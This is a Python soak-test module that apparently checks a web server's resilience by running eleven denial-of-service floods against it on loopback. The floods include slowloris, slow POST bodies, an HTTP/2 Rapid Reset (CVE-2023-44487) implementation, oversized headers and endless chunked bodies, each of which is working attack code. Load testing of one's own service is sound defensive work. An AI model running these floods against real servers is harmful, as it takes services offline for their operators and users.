"""Floods: what one client can do to a web server, each a function that keeps doing it for some seconds.

    report = await silent(Target("127.0.0.1", 8000), seconds=2)

Each takes where to, and for how long, and returns how many connections it opened. A client has an address of its
own, `source`, as far as the machine has one: on loopback each of 127.0.0.0/8 will do. `others` is everyone else:
what they were answered, and in how many seconds; `flooding` runs a flood in a process of its own, so that its work
does not count as theirs.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import socket
import subprocess
import sys
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path

import candia

Work = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
BROKEN = (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, TimeoutError)


@dataclass(frozen=True)
class Target:
    """Where the web listens, under which name, and from which address the client comes."""

    host: str
    port: int
    source: str = "127.0.0.66"
    page: str = "/"
    file: str = "/static/manifest.json"

    def request(self, path: str = "", method: str = "GET", *more: str) -> bytes:
        """A request's head, whole."""
        lines = (f"{method} {path or self.page} HTTP/1.1", f"Host: {self.host}:{self.port}", *more)
        return ("\r\n".join(lines) + "\r\n\r\n").encode()


async def silent(to: Target, seconds: float, connections: int = 1100) -> int:
    """Connections that say nothing, opened again when they are closed."""

    async def nothing(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        await reader.read()

    return await _many(to, seconds, connections, nothing)


async def slow_headers(to: Target, seconds: float, connections: int = 500) -> int:
    """Headers that come a byte at a time and never end (slowloris)."""

    async def drip(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(to.request()[:-2] + b"X-Slow: ")
        await _drip(writer)

    return await _many(to, seconds, connections, drip)


async def slow_bodies(to: Target, seconds: float, connections: int = 500) -> int:
    """Forms whose body comes a byte at a time."""

    async def drip(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        form = "Content-Type: application/x-www-form-urlencoded"
        writer.write(to.request("/account/login/", "POST", form, "Content-Length: 100000"))
        await _drip(writer)

    return await _many(to, seconds, connections, drip)


async def send_and_close(to: Target, seconds: float, connections: int = 4, at_once: int = 20) -> int:
    """Twenty requests in a row, and gone before the first answer."""

    async def send(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(to.request() * at_once)
        await writer.drain()

    return await _many(to, seconds, connections, send)


async def many_requests(to: Target, seconds: float, connections: int = 64) -> int:
    """The same page, again as soon as it is answered, on many connections."""
    return await _many(to, seconds, connections, _asking(to, to.page))


async def expensive_pages(to: Target, seconds: float, connections: int = 128) -> int:
    """`to.page` with a question that nobody asked before, so that nothing kept can answer it."""
    return await _many(to, seconds, connections, _asking(to, to.page + "?q={number}"))


async def rapid_reset(to: Target, seconds: float, connections: int = 2) -> int:
    """HTTP/2 streams that are opened and taken back at once (CVE-2023-44487)."""
    name = f"{to.host}:{to.port}".encode()
    # Indexed in HPACK's static table: GET, http and /; the name is a literal.
    fields = b"\x82\x86\x84\x41" + bytes([len(name)]) + name

    async def reset(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
        for stream in range(1, 1 << 20, 2):
            await _sent(writer, _frame(1, 5, stream, fields) + _frame(3, 0, stream, b"\0\0\0\x08"))

    return await _many(to, seconds, connections, reset)


async def huge_headers(to: Target, seconds: float, connections: int = 16) -> int:
    """Headers of ten megabytes."""

    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(to.request()[:-2])
        for number in range(1000):
            await _sent(writer, f"X-{number}: {'x' * 10_000}\r\n".encode())
        await reader.read()

    return await _many(to, seconds, connections, send)


async def huge_bodies(to: Target, seconds: float, connections: int = 16) -> int:
    """Bodies that do not say how long they are, and never end."""

    async def send(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        form = "Content-Type: application/x-www-form-urlencoded"
        writer.write(to.request("/account/login/", "POST", form, "Transfer-Encoding: chunked"))
        while True:
            await _sent(writer, b"10000\r\n" + b"x" * 0x10000 + b"\r\n")

    return await _many(to, seconds, connections, send)


async def live_updates(to: Target, seconds: float, connections: int = 600) -> int:
    """Live updates by the hundred, held open."""

    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(to.request("/live?topics=water,dialogue"))
        while await reader.read(4096):
            pass

    return await _many(to, seconds, connections, listen)


async def slow_readers(to: Target, seconds: float, connections: int = 500) -> int:
    """Files that are asked for many times on each connection, and taken a byte at a time."""

    async def read(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(to.request(to.file) * 50)
        while True:
            await reader.readexactly(1)
            await asyncio.sleep(0.5)

    return await _many(to, seconds, connections, read, buffer=4096)


FLOODS: tuple[Callable[..., Awaitable[int]], ...] = (
    silent,
    slow_headers,
    slow_bodies,
    send_and_close,
    many_requests,
    expensive_pages,
    rapid_reset,
    huge_headers,
    huge_bodies,
    live_updates,
    slow_readers,
)


def assets() -> list[Path]:
    """The scripts and styles that the web hands out: what can be asked for by everybody, and is large."""
    return list((Path(candia.__file__).parent / "web" / "dist" / "assets").iterdir())


@contextlib.contextmanager
def flooding(name: str, to: Target, seconds: float) -> Iterator[None]:
    """The flood of this name by a process of its own: has begun when the block begins, and is over when it ends."""
    words = [sys.executable, "-m", "tests.soak.floods", name, json.dumps(asdict(to)), str(seconds)]
    with subprocess.Popen(words, stdout=subprocess.PIPE) as process:
        assert process.stdout
        process.stdout.readline()
        try:
            yield
        finally:
            process.terminate()


async def others(to: Target, seconds: float, pause: float = 0.05) -> list[tuple[int, float]]:
    """Somebody else, who asks for `to.page` now and again: status (0 where no answer came) and seconds of each."""
    told, until = [], time.monotonic() + seconds
    while time.monotonic() < until:
        began = time.monotonic()
        told.append((await _status(to), time.monotonic() - began))
        await asyncio.sleep(pause)
    return told


def p95(told: list[tuple[int, float]]) -> float:
    """The seconds within which nineteen of twenty were answered."""
    took = sorted(seconds for _status, seconds in told)
    return took[max(0, -(-len(took) * 95 // 100) - 1)]


async def _status(to: Target) -> int:
    try:
        async with asyncio.timeout(20):
            reader, writer = await _connected(to, 1 << 16)
            try:
                writer.write(to.request("", "GET", "Connection: close"))
                line = await reader.readline()
                await reader.read()
                return int(line.split()[1]) if line else 0
            finally:
                writer.transport.abort()
    except BROKEN:
        return 0


def _asking(to: Target, path: str) -> Work:
    number = iter(range(1 << 40))

    async def ask(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            await _sent(writer, to.request(path.format(number=next(number))))
            head = await reader.readuntil(b"\r\n\r\n")
            length = head.lower().partition(b"content-length:")[2].split(b"\r\n")[0]
            await reader.readexactly(int(length or 0))

    return ask


async def _drip(writer: asyncio.StreamWriter) -> None:
    while True:
        await _sent(writer, b"x")
        await asyncio.sleep(0.5)


async def _sent(writer: asyncio.StreamWriter, words: bytes) -> None:
    if writer.transport.is_closing():
        raise ConnectionResetError
    writer.write(words)
    await writer.drain()


async def _many(to: Target, seconds: float, connections: int, work: Work, buffer: int = 1 << 16) -> int:
    """Do the work on so many connections at once, anew on each that ends; how many were opened in all."""
    _soft, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 16_384), most))
    opened = 0

    async def one() -> None:
        nonlocal opened
        while True:
            with contextlib.suppress(*BROKEN):
                reader, writer = await _connected(to, buffer)
                opened += 1
                try:
                    await work(reader, writer)
                finally:
                    writer.transport.abort()
            # A client that is refused tries again, and needs a moment for it.
            await asyncio.sleep(0.01)

    tasks = [asyncio.create_task(one()) for _connection in range(connections)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return opened


async def _connected(to: Target, buffer: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    line = socket.socket()
    try:
        line.setblocking(False)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        line.bind((to.source, 0))
        await asyncio.get_running_loop().sock_connect(line, (to.host, to.port))
        return await asyncio.open_connection(sock=line)
    except BaseException:
        line.close()
        raise


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


if __name__ == "__main__":
    flood, told, lasts = sys.argv[1:]
    print("begins", flush=True)  # noqa: T201 — heard by `flooding`
    print(asyncio.run(globals()[flood](Target(**json.loads(told)), float(lasts))))  # noqa: T201
